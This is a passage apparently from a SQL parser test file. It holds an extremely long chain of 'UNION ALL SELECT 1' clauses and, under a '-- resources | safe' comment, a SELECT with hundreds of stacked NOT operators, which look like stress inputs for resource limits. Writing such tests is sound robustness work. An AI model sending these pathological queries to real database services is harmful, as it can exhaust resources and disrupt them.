ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1

-- resources | safe
SELECT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT 